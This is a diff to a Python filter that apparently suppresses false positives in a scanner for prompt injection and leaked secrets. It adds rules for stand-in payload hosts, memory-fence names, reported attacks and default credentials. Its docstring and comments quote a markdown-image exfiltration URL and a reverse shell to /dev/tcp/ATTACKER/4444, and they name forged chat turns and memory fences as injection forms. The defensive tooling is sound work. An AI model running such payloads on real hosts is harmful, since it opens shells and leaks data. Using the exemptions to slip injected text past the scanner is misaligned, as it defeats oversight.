@@ -10,9 +10,14 @@ pass (never at one found hidden in an encoding: hiding is itself the tell) and l
 - a chat-template token named in prose ("adds <|im_start|> and <|im_end|> as special
   tokens", "wraps turns in [INST] ... [/INST].") rather than starting a forged turn;
 - a forbidden act ("agents may not modify CLAUDE.md"), or someone else's reported attempt
-  ("the honeypot logged attempts to append a key to authorized_keys");
+  ("the honeypot logged attempts to append a key to authorized_keys", "malicious repos that
+  add lines to AGENTS.md");
+- a payload whose destination is a stand-in (``![](https://evil/?q=DATA)``,
+  ``/dev/tcp/ATTACKER/4444``): it can send nothing anywhere;
+- the memory fence's opening named as a kind of tag ("delimited by <memory-context> tags");
 - rule words that modify another noun ("skip the system prompt tests");
-- a placeholder where a secret would be (``AKIAIOSFODNN7EXAMPLE``, ``ghp_xxxx...``);
+- a placeholder where a secret would be (``AKIAIOSFODNN7EXAMPLE``, ``ghp_xxxx...``, a
+  database URL whose password is its user name);
 - a token sent to its own service (``$FERNHILL_TOKEN`` to ``api.fernhill.io``);
 - hidden markup that hides nothing aimed at the model (an e-mail preheader, a bug about
   ``<span hidden>``).
@@ -71,6 +76,11 @@ _PROSE_AFTER_MARKER = re.compile(
     r"|blocks?\b|pairs?\b|format\b|[.;:](?:\s|$))",
     re.IGNORECASE,
 )
+_FENCE_AS_NOUN = re.compile(
+    r"\s{0,3}(?:and\s+</?\s?memory-context>\s{0,3})?(?:tags?|markers?|delimiters?|fences?"
+    r"|elements?|blocks?)\b",
+    re.IGNORECASE,
+)
 _MARKER_IDS = frozenset({"chat_template_marker", "llama_marker", "tool_tag", "role_tag"})
 _TEMPLATE_IDS = frozenset({"chat_template_marker", "llama_marker"})
 # After a marker: a role word (or none) and then the end of the line: a turn starts here.
@@ -95,7 +105,12 @@ _REPORTED_BEFORE = re.compile(
     r"(?:\battempt(?:s|ed)\s+to|\btried\s+to|\btrying\s+to"
     r"|\b(?:telling|told|asking|asked|instructing|instructed)\s+(?!you\b|the\s+assistant\b)"
     r"(?:(?:ai|coding|other|llm|autonomous|its|their|the)\s+){0,2}(?:agents?|bots?|assistants?"
-    r"|models?|readers?|users?)\s+to)\s{1,3}$",
+    r"|models?|readers?|users?)\s+to"
+    # What an attacker's thing does, described: "malicious repos that add lines to AGENTS.md".
+    r"|\b(?:malicious|compromised|poisoned|rogue|hostile|backdoored)\s+(?:[\w-]+\s+){1,2}"
+    r"(?:that|which|who)"
+    r"|\b(?:attackers?|adversar(?:y|ies)|malware|worms?|miners?)\s+(?:that\s+|who\s+)?"
+    r"(?:could|can|may|might|would|will|often|typically|usually))\s{1,3}$",
     re.IGNORECASE,
 )
 
@@ -116,6 +131,15 @@ _PROVIDER_WORDS = frozenset(
     {"openai", "anthropic", "claude", "aws", "amazon", "github", "gh", "gitlab", "slack",
      "stripe", "google", "gcp", "azure", "hf", "huggingface", "cohere", "mistral", "groq"}
 )  # fmt: skip
+
+_DESTINATION_IDS = frozenset({"markdown_image_exfil", "markdown_link_exfil", "reverse_shell"})
+_DESTINATION = re.compile(r"(?://|/dev/(?:tcp|udp)/)([^/\s?#)\]\"'>]{1,64})")
+# A bare word with no dot is no address on the internet ("evil", "ATTACKER"), nor is an
+# ellipsis or an angle-bracketed or upper-case name ("<ip>", "HOST", "ATTACKER_IP").
+_STAND_IN_HOST = re.compile(
+    r"(?:[a-z]{1,32}|[A-Z][A-Z_-]{1,31}|\.{2,3}|…|<[^>]{1,30}>|\{[^}]{1,30}\}"
+    r"|x{1,3}(?:\.x{1,3}){3}|X{1,3}(?:\.X{1,3}){3})(?::\d{1,5})?"
+)
 
 _THING_AFTER = re.compile(
     r"[ \t-]+(?:tests?|files?|caches?|warnings?|logs?|templates?|editor|docs|documentation"
@@ -222,6 +246,8 @@ def _marker_in_prose(text: str, finding: Finding) -> str | None:
         if _CONTENT_IS_NAME.match(text, finding.end):
             return "named in code"
         return _in_inline_code(text, finding)
+    if finding.id == "memory_fence_forgery":
+        return _fence_named(text, finding)
     if finding.id not in _MARKER_IDS:
         return None
     if _in_inline_code(text, finding):
@@ -236,6 +262,21 @@ def _marker_in_prose(text: str, finding: Finding) -> str | None:
     if finding.id in _TEMPLATE_IDS and _OPENS_A_TURN.match(text, finding.end) is None:
         return "named in prose"
     return None
+
+
+def _fence_named(text: str, finding: Finding) -> str | None:
+    # "delimited by <memory-context> tags": the fence named mid-sentence, as a kind of tag.
+    # Only its opening: a closing fence is what a forgery needs, whatever follows it.
+    if "/" in text[finding.start : finding.end]:
+        return None
+    if _in_inline_code(text, finding):
+        return "named in code"
+    line_start = text.rfind("\n", 0, finding.start) + 1
+    if not re.search(r"[^\W\d_]{2,}", text[line_start : finding.start]):
+        return None
+    if _FENCE_AS_NOUN.match(text, finding.end) is None:
+        return None
+    return "named in prose"
 
 
 def _in_inline_code(text: str, finding: Finding) -> str | None:
@@ -271,6 +312,9 @@ def _placeholder_secret(text: str, finding: Finding) -> str | None:
     value = text[finding.start : finding.end]
     if finding.id == "url_credentials":
         value = value.rsplit("@", 1)[0]  # the password, not a documentation host
+        user, _, password = value.split("://", 1)[-1].partition(":")
+        if password == user:
+            return "a local default, not a live secret"  # dev:dev, app:app
     if _PLACEHOLDER.search(value) is None:
         return None
     return "a placeholder, not a live secret"
@@ -291,6 +335,18 @@ def _own_service(text: str, finding: Finding) -> str | None:
     if not words or not words & labels:
         return None
     return "a token sent to its own service"
+
+
+def _nowhere_to_send(text: str, finding: Finding) -> str | None:
+    # "a model renders ![](https://evil/?q=DATA)", "bash -i >& /dev/tcp/ATTACKER/4444": a
+    # payload shown with a stand-in where its destination goes cannot send anything anywhere.
+    if finding.id not in _DESTINATION_IDS:
+        return None
+    span = text[finding.start : finding.end + 64]
+    host = _DESTINATION.search(span)
+    if host is None or _STAND_IN_HOST.fullmatch(host.group(1)) is None:
+        return None
+    return "its destination is a stand-in"
 
 
 def _names_a_thing(text: str, finding: Finding) -> str | None:
@@ -327,5 +383,6 @@ _CHECKS: tuple[Callable[[str, Finding], str | None], ...] = (
     _reported_attempt,
     _placeholder_secret,
     _own_service,
+    _nowhere_to_send,
     _hides_nothing,
 )
